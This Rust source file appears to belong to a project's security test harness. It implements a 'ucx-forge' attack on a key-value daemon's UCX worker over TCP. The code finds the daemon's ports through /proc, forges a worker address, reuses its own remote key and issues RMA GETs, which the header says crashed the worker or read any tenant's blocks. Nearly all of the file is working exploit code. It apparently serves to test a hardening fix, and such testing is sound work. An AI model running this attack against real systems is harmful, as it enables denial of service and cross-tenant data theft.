//! The UCX attack of anyone who reaches a daemon's UCX worker over UCX's TCP transport
//! (issue 38, item 1), for the `peer-attacker ucx-forge` binary: no cluster key, no client
//! socket, no view of peer traffic.
//!
//! 1. Find the daemon's UCX ports: its listening TCP sockets (`/proc/PID/net/tcp` shows
//!    every socket to every uid; the pid's fds map them to the daemon) other than the ones
//!    the caller says are its own service ports.
//! 2. Forge a worker address: this process's own packed address (`UCX_TLS=tcp`, on `lo`)
//!    with a fresh worker uuid and the daemon's port where its own port is.
//! 3. Open an endpoint to it, unpack this process's own remote key (over TCP every key packs
//!    to the same bytes) and GET at an address: an unmapped one (0x10000) crashed the
//!    daemon's worker; a mapped one (the arena) read any tenant's blocks.
//!
//! Against a daemon that refuses software RMA (the default since issue 38) there is no UCX
//! port to find; against one confined to the peer interface there is none on other NICs.

use std::collections::HashSet;
use std::sync::Arc;
use std::time::Duration;

use kvnode_ucx::{Access, Context, MemoryKind, Region, Remote, Worker, WorkerAddress};

use crate::ucxsteal::Report;

/// Inodes of the sockets process `pid` holds open.
fn socket_inodes(pid: &str) -> HashSet<u64> {
    let Ok(dir) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
        return HashSet::new();
    };
    dir.filter_map(|e| std::fs::read_link(e.ok()?.path()).ok())
        .filter_map(|l| {
            let l = l.to_string_lossy().into_owned();
            l.strip_prefix("socket:[")?.strip_suffix(']')?.parse().ok()
        })
        .collect()
}

/// Listening TCP sockets of `pid` (IPv4 and IPv6): (local address as /proc shows it, port).
pub fn listening_ports(pid: &str) -> Vec<(String, u16)> {
    let inodes = socket_inodes(pid);
    let mut out = Vec::new();
    for table in ["tcp", "tcp6"] {
        let Ok(text) = std::fs::read_to_string(format!("/proc/{pid}/net/{table}")) else {
            continue;
        };
        for line in text.lines().skip(1) {
            let f: Vec<&str> = line.split_whitespace().collect();
            let (Some(local), Some(state), Some(inode)) = (f.get(1), f.get(3), f.get(9)) else {
                continue;
            };
            let listening = *state == "0A";
            let mine = inode.parse().is_ok_and(|i: u64| inodes.contains(&i));
            let port = local
                .rsplit_once(':')
                .and_then(|(_, p)| u16::from_str_radix(p, 16).ok());
            if let (true, true, Some(port)) = (listening, mine, port) {
                out.push(((*local).to_owned(), port));
            }
        }
    }
    out
}

/// `own` with a fresh uuid and every occurrence of `from` (big-endian) replaced by `to`;
/// `None` unless the port occurs exactly once after the header.
pub fn forge_address(own: &[u8], from: u16, to: u16, uuid: u64) -> Option<Vec<u8>> {
    const UUID_AT: usize = 1;
    let body = UUID_AT + 8;
    let at: Vec<usize> = (body..own.len().saturating_sub(1))
        .filter(|&i| own[i..i + 2] == from.to_be_bytes())
        .collect();
    let [i] = at[..] else { return None };
    let mut f = own.to_vec();
    f[UUID_AT..body].copy_from_slice(&uuid.to_ne_bytes());
    f[i..i + 2].copy_from_slice(&to.to_be_bytes());
    Some(f)
}

/// The attack against process `pid`, skipping `own_ports` (its client/peer/metrics ports):
/// one GET at `addr` through every other listening port of the daemon.
pub fn attack(pid: &str, own_ports: &[u16], addr: u64, len: usize) -> Report {
    let mut r = Report::default();
    let targets: Vec<(String, u16)> = listening_ports(pid)
        .into_iter()
        .filter(|(_, p)| !own_ports.contains(p))
        .collect();
    r.say("ucx_ports", targets.len());
    for (local, port) in &targets {
        r.say("ucx_port", format!("{local}:{port}"));
    }
    let ctx = Context::with_settings(&[("TLS", "tcp"), ("NET_DEVICES", "lo")]).expect("ucx");
    let probe = Worker::new(&ctx).expect("worker");
    let me = std::process::id().to_string();
    let Some((_, my_port)) = listening_ports(&me).into_iter().next() else {
        r.say("error", "own UCX worker has no listening port");
        return r;
    };
    let own = probe.address().expect("address");
    // A buffer of this process: its key packs to the same bytes any TCP key does.
    let mut buf = vec![0u8; len.max(64)];
    // SAFETY: `buf` outlives both regions (dropped at the end of this function, after them).
    let exposed = unsafe {
        Region::map(
            &ctx,
            buf.as_mut_ptr(),
            buf.len(),
            MemoryKind::Host,
            Access::RemoteRead,
        )
    }
    .expect("map");
    let rkey = exposed.pack_rkey().expect("pack");
    r.say("rkey_len", rkey.0.len());
    let mut dst = vec![0u8; len];
    // SAFETY: `dst` outlives `landing` and every GET into it (all landed or abandoned below).
    let landing = Arc::new(
        unsafe { Region::map(&ctx, dst.as_mut_ptr(), len, MemoryKind::Host, Access::Local) }
            .expect("map"),
    );
    let mut reached = 0;
    for (i, (_, port)) in targets.iter().enumerate() {
        let uuid = 0x5eed_0000_0000_0000 ^ u64::from(*port) ^ ((i as u64) << 20);
        let Some(forged) = forge_address(&own.0, my_port, *port, uuid) else {
            r.say("error", "own port not found once in own address");
            continue;
        };
        let Ok(mut remote) =
            Remote::connect(&ctx, &WorkerAddress(forged), &rkey, Arc::clone(&landing))
        else {
            r.say("connect", format!("{port}:refused"));
            continue;
        };
        reached += 1;
        let got = remote.get(&mut dst, addr, Duration::from_secs(3));
        r.say(
            "get",
            format!("{port}:{}", if got.is_ok() { "ok" } else { "failed" }),
        );
        if got.is_ok() {
            r.say("read", hex(&dst[..dst.len().min(32)]));
        }
    }
    r.say("endpoints", reached);
    drop(landing);
    drop(exposed);
    drop(buf);
    r
}

fn hex(b: &[u8]) -> String {
    use std::fmt::Write as _;
    b.iter().fold(String::new(), |mut s, x| {
        let _ = write!(s, "{x:02x}");
        s
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_address_has_a_new_uuid_and_the_target_port() {
        let own = [0x81, 1, 2, 3, 4, 5, 6, 7, 8, 9, 0x1f, 0x90, 0xaa];
        let f = forge_address(&own, 0x1f90, 0x2222, 7).unwrap();
        assert_eq!(&f[1..9], &7u64.to_ne_bytes());
        assert_eq!(&f[10..12], &[0x22, 0x22]);
        assert_eq!(f[0], 0x81);
        assert!(forge_address(&own, 0x7777, 1, 7).is_none());
    }
}
